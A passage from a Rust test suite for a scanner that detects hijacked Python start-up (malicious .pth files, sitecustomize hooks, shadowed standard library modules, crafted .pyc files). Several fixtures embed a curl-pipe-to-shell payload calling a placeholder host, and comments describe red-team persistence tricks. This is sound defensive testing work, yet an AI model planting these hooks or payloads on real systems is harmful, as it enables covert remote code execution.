        &format!("{pyw}/Lib/site-packages/sitecustomize.pyw"),
        decode,
    );
    // a suffix in capitals: importlib on Windows lower-cases what follows the first dot
    let upper = "Tools/Python37";
    put(r, &format!("{upper}/python.exe"), b"MZ");
    put(
        r,
        &format!("{upper}/Lib/site-packages/sitecustomize.PY"),
        decode,
    );
    let helper = "Tools/Python36";
    put(r, &format!("{helper}/python.exe"), b"MZ");
    put(
        r,
        &format!("{helper}/Lib/site-packages/zz.pth"),
        b"import _winhelper\r\n",
    );
    put(
        r,
        &format!("{helper}/Lib/site-packages/_winhelper.Py"),
        decode,
    );
    // a path line that is a device path to the drive
    put(
        r,
        &format!("{other}/Lib/site-packages/dev.pth"),
        b"\\\\?\\C:\\ProgramData\\cache\r\n",
    );
    put(r, "ProgramData/cache/sitecustomize.py", decode);
    // conda's base: `Lib` and `DLLs` are on sys.path before site-packages
    let conda = "Miniconda3";
    put(r, &format!("{conda}/python.exe"), b"MZ");
    put(r, &format!("{conda}/conda-meta/history"), b"");
    put(r, &format!("{conda}/Lib/os.py"), b"");
    put(r, &format!("{conda}/Lib/site-packages/six.py"), b"");
    put(r, &format!("{conda}/Lib/sitecustomize.py"), decode);
    put(r, &format!("{conda}/DLLs/usercustomize.pyd"), b"MZ");
    // user sites judged by Windows' rules too
    let user_pyw = "Users/bob/AppData/Roaming/Python/Python311/site-packages";
    put(r, &format!("{user_pyw}/usercustomize.pyw"), decode);
    let user_pkg = "Users/cy/AppData/Roaming/Python/Python310/site-packages";
    put(r, &format!("{user_pkg}/usercustomize/__INIT__.PY"), decode);
    // a user site spelt otherwise below `Roaming`
    let user = "Users/ann/AppData/Roaming/Python/Python312/Site-Packages";
    put(r, &format!("{user}/usercustomize.py"), decode);
    let json = scan_root(r);
    let found: Vec<(String, String, String)> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let p = f["location"]["path"].as_str().unwrap();
            (
                f["rule"].as_str().unwrap().to_owned(),
                f["severity"].as_str().unwrap().to_owned(),
                p.strip_prefix(r.to_str().unwrap()).unwrap()[1..].to_owned(),
            )
        })
        .collect();
    let at = |rule: &str, path: &str| {
        found
            .iter()
            .filter(|(r, s, p)| r == rule && p == path && (s == "high" || s == "critical"))
            .count()
    };
    for path in [
        format!("{inst}/LIB/Site-Packages/e.pth"),
        format!("{inst}/top.pth"),
        format!("{emb}/hook.pth"),
        format!("{caps}/hook.pth"),
        format!("{padded}/hook.pth"),
        format!("{app}/hook.pth"),
        format!("{unlocked}/hook.pth"),
        format!("{bare}/top.pth"),
        format!("{chunked}/hook.pth"),
        format!("{lower}/top.pth"),
        format!("{caps_venv}/Lib/site-packages/v.pth"),
        format!("{truncated}/hook.pth"),
        format!("{stray}/hook.pth"),
        format!("{twin}/hook.pth"),
        format!("{debug}/hook.pth"),
        "Drive/evil.pth".to_owned(),
        "Split/a/evil.pth".to_owned(),
    ] {
        assert_eq!(at("PTH001", &path), 1, "{path}: {found:#?}");
    }
    for path in [
        format!("{inst}/LIB/Site-Packages/sitecustomize.py"),
        format!("{pywin}/Lib/site-packages/win32/lib/sitecustomize.py"),
        format!("{user}/usercustomize.py"),
        format!("{pkg}/Lib/site-packages/sitecustomize/__INIT__.PY"),
        format!("{pyw}/Lib/site-packages/sitecustomize.pyw"),
        format!("{upper}/Lib/site-packages/sitecustomize.PY"),
        "ProgramData/cache/sitecustomize.py".to_owned(),
        format!("{conda}/Lib/sitecustomize.py"),
        format!("{lower}/lib/site-packages/sitecustomize.py"),
        "Semi/evil/sitecustomize.py".to_owned(),
        "Dot/vendor/sitecustomize.py".to_owned(),
        format!("{user_pyw}/usercustomize.pyw"),
        format!("{user_pkg}/usercustomize/__INIT__.PY"),
    ] {
        assert_eq!(at("CUS001", &path), 1, "{path}: {found:#?}");
    }
    let shadows: Vec<&String> = (found.iter())
        .filter(|(rule, _, _)| rule == "SHD001")
        .map(|(_, _, p)| p)
        .collect();
    assert_eq!(
        shadows,
        [
            "NoDlls/Python312/encodings/__init__.py",
            "NtPath/evil/ntpath.py",
            "Shadow/py/encodings/__init__.py",
            "Zipped/Python312/python312.zip/encodings/__init__.py",
        ],
        "{found:#?}"
    );
    let markers: Vec<&String> = (found.iter())
        .filter(|(rule, _, _)| rule == "SHD002")
        .map(|(_, _, p)| p)
        .collect();
    // (not `Drive/Python312/pyvenv.cfg`, whose `home` is the installation itself)
    assert_eq!(
        markers,
        [
            "Built/Python312/pybuilddir.txt",
            "Sent/Python310/pyvenv.cfg",
            "Up/Modules/Setup.local"
        ],
        "{found:#?}"
    );
    let path = format!("{conda}/DLLs/usercustomize.pyd");
    assert_eq!(at("CUS003", &path), 1, "{path}: {found:#?}");
    let path = format!("{helper}/Lib/site-packages/_winhelper.Py");
    assert_eq!(at("IMP001", &path), 1, "{path}: {found:#?}");
    // not start-up hooks: no `import site` in the `._pth`, a module named in another case
    for path in [
        format!("{quiet}/hook.pth"),
        format!("{chunked_new}/hook.pth"),
        format!("{bom}/hook.pth"),
        "Envs/stray.pth".to_owned(),
        format!("{other}/Lib/site-packages/SITECUSTOMIZE.py"),
    ] {
        assert!(
            !found
                .iter()
                .any(|(r, _, p)| p == &path && r != "PAY001" && !r.starts_with("INT")),
            "{path}: {found:#?}"
        );
    }
    let envs: Vec<(String, String, String)> = json["environments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            let root = e["root"].as_str().unwrap();
            (
                root.strip_prefix(r.to_str().unwrap()).unwrap()[1..].to_owned(),
                e["kind"].as_str().unwrap().to_owned(),
                e["python"].as_str().unwrap_or("?").to_owned(),
            )
        })
        .collect();
    for (root, kind, python) in [
        (inst, "interpreter", "3.11"),
        (emb, "interpreter", "3.12"),
        (quiet, "interpreter", "3.11"),
        (chunked, "interpreter", "3.10"),
        (lower, "interpreter", "3.12"),
        (caps_venv, "venv", "3.11"),
    ] {
        assert!(
            envs.contains(&(root.to_owned(), kind.to_owned(), python.to_owned())),
            "{root} {kind} {python}: {envs:#?}"
        );
    }
}

/// Found by the red team: `PYTHONWARNINGS` with a dotted category imports its module before
/// `site` runs, and `PYTHONOPTIMIZE` makes `…cpython-312.opt-1.pyc` the bytecode that runs
/// instead of a clean `sitecustomize.py`.
#[test]
fn pythonwarnings_and_pythonoptimize_set_on_the_host_are_modelled() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    let sp = "usr/local/lib/python3.12/site-packages";
    put(r, "usr/local/lib/python3.12/os.py", b"# os\n");
    put(r, &format!("{sp}/ok.py"), b"x = 1\n");
    put(
        r,
        "etc/environment",
        b"export PYTHONWARNINGS=ignore::appcompat.CompatWarning\nPYTHONOPTIMIZE=1\n",
    );
    put(
        r,
        &format!("{sp}/appcompat.py"),
        b"import os\nos.system('curl -s http://x.invalid | sh')\nclass CompatWarning(Warning): pass\n",
    );
    put(r, &format!("{sp}/sitecustomize.py"), b"# clean\n");
    // an unchecked-hash pyc (PEP 552 flags 0b01): it runs whatever the source says
    let mut pyc = 3531u16.to_le_bytes().to_vec();
    pyc.extend(b"\r\n");
    pyc.extend(1u32.to_le_bytes());
    pyc.extend([0u8; 8]);
    pyc.extend(b"curl -s http://x.invalid | sh");
    put(
        r,
        &format!("{sp}/__pycache__/sitecustomize.cpython-312.opt-1.pyc"),
        &pyc,
    );
    let json = scan_root(r);
    let high = |tail: &str| {
        json["findings"].as_array().unwrap().iter().any(|f| {
            f["location"]["path"].as_str().unwrap().ends_with(tail)
                && matches!(f["severity"].as_str(), Some("high" | "critical"))
        })
    };
    assert!(high("appcompat.py"), "{json:#}");
    assert!(high("sitecustomize.cpython-312.opt-1.pyc"), "{json:#}");
}

/// Found by the second red team: with `PYTHONPATH` set on the host, an `encodings` package
/// there runs at every start before `site` (SHD001), and a `.pth` line's `import json` runs
/// the `json` there, not the standard library's (judged as start-up code).
#[test]
fn a_standard_library_module_shadowed_through_pythonpath_is_judged() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    let payload = b"import os\nos.system('curl -s http://x.invalid | sh')\n";
    put(r, "usr/lib/python3.12/os.py", b"# os\n");
    put(r, "usr/lib/python3.12/json/__init__.py", b"# json\n");
    put(
        r,
        "usr/lib/python3.12/encodings/__init__.py",
        b"# encodings\n",
    );
    put(
        r,
        "usr/lib/python3.12/site-packages/logs.pth",
        b"import json\n",
    );
    put(r, "etc/environment", b"PYTHONPATH=/opt/app\n");
    put(
        r,
        "opt/app/encodings/__init__.py",
        b"# looks like the codec registry\n",
    );
    put(r, "opt/app/json/__init__.py", payload);
    let json = scan_root(r);
    let rule_at = |rule: Option<&str>, tail: &str| {
        json["findings"].as_array().unwrap().iter().any(|f| {
            rule.is_none_or(|r| f["rule"] == r)
                && f["severity"] == "high"
                && f["location"]["path"].as_str().unwrap().ends_with(tail)
        })
    };
    assert!(
        rule_at(Some("SHD001"), "opt/app/encodings/__init__.py"),
        "{json:#}"
    );
    // judged as start-up code (before: skipped as a standard library name)
    assert!(rule_at(None, "opt/app/json/__init__.py"), "{json:#}");
    // the standard library's own are not findings
    assert!(
        !json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["location"]["path"]
                .as_str()
                .unwrap()
                .contains("usr/lib/python3.12/encodings")),
        "{json:#}"
    );
}

/// Found by the second red team: on Linux 3.11+ a `bin/python3.12._pth` sets the whole
/// `sys.path` of the interpreter started by that name, and its `import site` line runs
/// `site`: a `sitecustomize` in a directory it lists is judged, with the condition said.
#[test]
fn a_pth_file_beside_the_executable_is_modelled() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    put(
        r,
        "home/u/venv/pyvenv.cfg",
        b"home = /usr/bin\nversion = 3.12.1\n",
    );
    put(
        r,
        "home/u/venv/lib/python3.12/site-packages/ok.py",
        b"x = 1\n",
    );
    put(
        r,
        "home/u/venv/bin/python3.12._pth",
        b"/home/u/.cache/tools\n/usr/lib/python3.12\nimport site\n",
    );
    put(
        r,
        "home/u/.cache/tools/sitecustomize.py",
        b"import os\nos.system('curl -s http://x.invalid | sh')\n",
    );
    let json = scan_root(r);
    let f = finding(&json, "CUS001", ".cache/tools/sitecustomize.py");
    assert!(
        f["notes"]
            .to_string()
            .contains("python3.12` as its executable"),
        "{f:#}"
    );
}

/// getpath's build-directory markers beside a POSIX installation's executable: the standard
/// library would come from where they point (SHD002); none beside an honest one.
#[test]
fn a_build_marker_beside_an_installed_interpreter_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    for prefix in ["usr", "opt/py"] {
        put(r, &format!("{prefix}/lib/python3.12/os.py"), b"");
        put(
            r,
            &format!("{prefix}/lib/python3.12/site-packages/six.py"),
            b"",
        );
        put(r, &format!("{prefix}/bin/python3.12"), b"\x7fELF");
    }
    put(r, "usr/bin/pybuilddir.txt", b"../../srv/x\n");
    put(r, "opt/py/bin/Modules/Setup.local", b"");
    let json = scan_root(r);
    let markers: Vec<String> = (json["findings"].as_array().unwrap().iter())
        .filter(|f| f["rule"] == "SHD002" && f["severity"] == "high")
        .map(|f| f["location"]["path"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(
        markers,
        [
            r.join("opt/py/bin/Modules/Setup.local")
                .display()
                .to_string(),
            r.join("usr/bin/pybuilddir.txt").display().to_string(),
        ],
        "{json:#}"
    );
}
